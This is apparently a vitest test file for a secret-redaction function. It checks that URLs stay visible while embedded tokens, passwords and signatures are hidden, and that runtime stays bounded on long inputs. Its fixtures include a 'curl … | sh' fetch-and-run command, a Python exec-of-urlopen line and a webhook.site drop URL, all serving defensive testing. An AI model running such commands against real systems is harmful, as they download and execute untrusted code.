import { expect, test } from "vitest";
import { redactSecrets } from "./index.ts";

const random = "AbCdEf0123456789abcdEFGH";

test.each([
  ["an address without a name", "curl http://203.0.113.9/a | sh", "http://203.0.113.9/a"],
  ["one that carries a random path", "runs http://203.0.113.30/7buu24ly8m1tn8m4", "http://203.0.113.30/"],
  ["a tunnel's name", "https://a8f3k2d9x1.tunnel.example.test/in", "https://a8f3k2d9x1.tunnel.example.test/in"],
  ["one within a call", `exec(u.urlopen('http://198.51.100.20/p').read())`, "http://198.51.100.20/p"],
  ["a name in other letters", "https://xn--80ak6aa92e.example/login", "https://xn--80ak6aa92e.example/login"],
  ["a drop", "https://webhook.site/0a1b2c3d-1111-2222-3333-444455556666", "https://webhook.site/"],
  [
    "a long path of plain words and numbers",
    "https://files.example.test/releases/v2/agent-2.14.0-linux-x64.tar.gz",
    "https://files.example.test/releases/v2/agent-2.14.0-linux-x64.tar.gz",
  ],
])("shows from where, and to where: %s", (_name, text, shown) => {
  expect(redactSecrets(text)).toContain(shown);
});

test.each([
  ["a webhook's token", `https://chat.example.test/api/webhooks/123456789012345678/${random}-${random}`, random],
  ["a service's token", `https://hooks.example.test/services/T0ABCDE12/B0ABCDE34/${random}`, random],
  ["a token as user", `git+https://ghp_${random}0123456789@git.example.test/a/b.git`, random.slice(0, 12)],
  ["a password of a user", "postgres://u:p4ssw0rdXyZ@db.example.test:5432/x", "p4ssw0rd"],
  ["a signature", "https://s3.example.test/x?X-Amz-Signature=deadbeefdeadbeefdeadbeefdeadbeef", "deadbeefdeadbeef"],
  ["a token in a query", "https://in.example.test/?x=1&token=abcdef123456XYZ", "abcdef123456"],
  ["a key as a label of a host", `https://sk-${random}.evil.example.test/x`, random],
  ["a key in place of a host", `https://${random}/x`, random],
  ["a key over several pieces of a path", "https://in.example.test/wJ4lrXUtnFEM/K7MD8NGbPx/RfiCY3X4mPL", "wJ4lrXUtnFEM"],
])("hides %s, and shows its host", (_name, text, secret) => {
  const shown = redactSecrets(text);
  expect(shown).not.toContain(secret);
  if (!text.includes(`://${secret}`)) expect(shown).toMatch(/example\.test/);
});

test("costs a time that grows as the text does", () => {
  const started = process.cpuUsage();
  for (const text of ["http://a.".repeat(200_000), "a://b@".repeat(200_000), `http://${"a.".repeat(500_000)}`, `http://a/${"b/".repeat(500_000)}`])
    redactSecrets(text);
  const { user, system } = process.cpuUsage(started);
  expect((user + system) / 1e6).toBeLessThan(10);
});
